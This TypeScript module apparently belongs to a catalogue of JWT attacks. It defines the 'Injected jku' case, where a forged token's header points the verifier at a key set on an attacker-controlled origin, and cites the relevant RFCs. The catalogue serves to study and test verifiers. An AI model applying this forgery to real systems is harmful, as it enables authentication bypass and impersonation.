/** The address of the attacker’s own key set in the header. Not: the key itself (jwk-injection.ts). */
import { rfc } from '#sources/sources';
import { ATTACKER_ORIGIN } from '../origins';
import { forging, underOwnKey } from '../attacker/forged-token';
import { LIBRARIES_TAKE_NO_KEY, NAIVE_VERIFIER_ASSUMED } from '../attacker/assumed';
import type { AttackUnit } from '../attacker/attack';

export default {
  order: 45,
  label: 'Injected jku',
  says: 'The attacker signs with their own key. The header tells the verifier to fetch that key from the attacker’s server.',
  sources: [rfc(7515, '4.1.2'), rfc(8725, '3.10')],
  assumes: [NAIVE_VERIFIER_ASSUMED, LIBRARIES_TAKE_NO_KEY],
  presupposes: { alg: 'EdDSA' },
  ...forging((has) => underOwnKey(has, { jku: `${ATTACKER_ORIGIN}/jwks.json` })),
} satisfies AttackUnit;
